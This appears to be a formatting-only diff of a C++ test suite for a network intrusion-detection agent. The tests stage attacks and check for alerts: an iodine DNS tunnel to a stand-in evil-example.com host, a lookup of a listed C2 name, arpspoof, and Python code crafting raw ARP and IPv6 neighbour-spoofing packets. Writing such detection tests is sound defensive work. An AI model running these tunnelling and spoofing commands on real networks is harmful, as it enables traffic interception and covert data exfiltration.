@@ -84,7 +84,8 @@ class NameAttacks : public testing::Test {
     node_.emplace(std::move(made->node));
     pod_.emplace(std::move(made->pod));
   }
-  void watch(const NetNamespace& ns, const std::string& device, std::vector<std::string> more = {}) {
+  void watch(const NetNamespace& ns, const std::string& device,
+             std::vector<std::string> more = {}) {
     more.insert(more.begin(), "--enable-history=false");
     auto agent = Agent::start(ns, more);
     ASSERT_TRUE(agent) << agent.error().message;
@@ -107,15 +108,15 @@ TEST_F(NameAttacks, ATunnelInDns) {
   std::this_thread::sleep_for(std::chrono::seconds(1));
   const Seconds since;
   // Through the name server only (-r): what firewalls leave open.
-  ASSERT_TRUE(others_.start(*pod_, {"iodine", "-f", "-r", "-P", "secret", "-d", "dns0", kNode,
-                                    "t.evil-example.com"}));
   ASSERT_TRUE(others_.start(
-      *pod_, {"sh", "-c",
-              "until ping -c 1 -W 1 172.30.99.1 >/dev/null 2>&1; do sleep 0.2; done; "
-              "exec ping -q -i 0.05 -s 300 172.30.99.1"}));
-  EXPECT_TRUE(eventually([&] {
-    return has_alert(*agent_, "dns_tunnel", kPod, "evil-example.com");
-  }, 100 * kSecond)) << alerts_of(*agent_);
+      *pod_, {"iodine", "-f", "-r", "-P", "secret", "-d", "dns0", kNode, "t.evil-example.com"}));
+  ASSERT_TRUE(
+      others_.start(*pod_, {"sh", "-c",
+                            "until ping -c 1 -W 1 172.30.99.1 >/dev/null 2>&1; do sleep 0.2; done; "
+                            "exec ping -q -i 0.05 -s 300 172.30.99.1"}));
+  EXPECT_TRUE(eventually([&] { return has_alert(*agent_, "dns_tunnel", kPod, "evil-example.com"); },
+                         100 * kSecond))
+      << alerts_of(*agent_);
   std::printf("a tunnel in DNS (iodine): found %.1f s after its start\n", since.passed());
 }
 
@@ -127,13 +128,14 @@ TEST_F(NameAttacks, AListedNameThatIsAskedFor) {
   watch(*node_, "eth0", {"--threat-intel=bots=" + list});
   ASSERT_TRUE(others_.start(*node_, name_server(kNode)));
   ASSERT_TRUE(eventually([&] {
-    return pod_->run({"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode),
-                      "www.example.com"}).has_value();
+    return pod_
+        ->run({"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode), "www.example.com"})
+        .has_value();
   }));
   const Seconds since;
   EXPECT_TRUE(eventually([&] {
-    (void)pod_->run({"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode),
-                     "c2.bad-example.com"});
+    (void)pod_->run(
+        {"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode), "c2.bad-example.com"});
     return has_alert(*agent_, "threat_intel", kPod, "c2.bad-example.com");
   })) << alerts_of(*agent_);
   std::printf("a listed name: found %.1f s after it was asked for\n", since.passed());
@@ -144,8 +146,9 @@ TEST_F(NameAttacks, HonestNamesAreNone) {
   watch(*node_, "eth0");
   ASSERT_TRUE(others_.start(*node_, name_server(kNode)));
   ASSERT_TRUE(eventually([&] {
-    return pod_->run({"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode),
-                      "www.example.com"}).has_value();
+    return pod_
+        ->run({"dig", "+short", "+time=1", "+tries=1", "@" + std::string(kNode), "www.example.com"})
+        .has_value();
   }));
   // As a pod asks (ndots:5): every name below every search domain first; and names that are
   // there once, below a search domain of the node.
@@ -163,7 +166,8 @@ TEST_F(NameAttacks, HonestNamesAreNone) {
        "'.corp-example.org']\n"
        "names = ['www.example.com', 'cdn.example.net', 'api.example.org', 'web.shop']\n"
        "for i in range(300):\n"
-       "    some = names + ['%032x.%020x.com' % (random.getrandbits(128), random.getrandbits(80))]\n"
+       "    some = names + ['%032x.%020x.com' % (random.getrandbits(128), "
+       "random.getrandbits(80))]\n"
        "    for name in some:\n"
        "        for suffix in reversed(search):\n"
        "            ask(name + suffix); ask(name + suffix, 28)\n"
@@ -220,16 +224,19 @@ class LinkAttacks : public NameAttacks {
          "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(('eth0', 0))\n"
          "mac = s.getsockname()[4]\n"
          "def arp(op, sha, spa, tha, tpa, dst):\n"
-         "    s.send(dst + sha + b'\\x08\\x06' + struct.pack('!HHBBH', 1, 0x800, 6, 4, op) + sha +\n"
+         "    s.send(dst + sha + b'\\x08\\x06' + struct.pack('!HHBBH', 1, 0x800, 6, 4, op) + sha "
+         "+\n"
          "           socket.inet_aton(spa) + tha + socket.inet_aton(tpa))\n"
          "def advertise(target, dst):\n"
-         "    six = socket.inet_pton(socket.AF_INET6, target); to = socket.inet_pton(socket.AF_INET6, dst)\n"
+         "    six = socket.inet_pton(socket.AF_INET6, target); to = "
+         "socket.inet_pton(socket.AF_INET6, dst)\n"
          "    m = struct.pack('!BBHI', 136, 0, 0, 0x20000000) + six + b'\\x02\\x01' + mac\n"
          "    p = six + to + struct.pack('!II', len(m), 58) + m\n"
          "    c = sum(struct.unpack('!%dH' % (len(p) // 2), p))\n"
          "    while c >> 16: c = (c & 0xffff) + (c >> 16)\n"
          "    m = m[:2] + struct.pack('!H', ~c & 0xffff) + m[4:]\n"
-         "    s.send(b'\\xff' * 6 + mac + b'\\x86\\xdd' + struct.pack('!IHBB', 6 << 28, len(m), 58, 255)"
+         "    s.send(b'\\xff' * 6 + mac + b'\\x86\\xdd' + struct.pack('!IHBB', 6 << 28, len(m), "
+         "58, 255)"
          " + six + to + m)\n" +
              body},
         60 * kSecond);
@@ -246,9 +253,10 @@ TEST_F(LinkAttacks, ArpSpoofing) {
   everybody_meets();
   const Seconds since;
   ASSERT_TRUE(others_.start(*evil_, {"arpspoof", "-i", "eth0", "-t", "10.78.0.2", "10.78.0.1"}));
-  EXPECT_TRUE(eventually([&] {
-    return has_alert(*agent_, "neighbour_spoof", "10.78.0.9", "10.78.0.1");
-  }, 60 * kSecond)) << alerts_of(*agent_);
+  EXPECT_TRUE(
+      eventually([&] { return has_alert(*agent_, "neighbour_spoof", "10.78.0.9", "10.78.0.1"); },
+                 60 * kSecond))
+      << alerts_of(*agent_);
   std::printf("ARP spoofing (arpspoof): found %.1f s after its start\n", since.passed());
 }
 
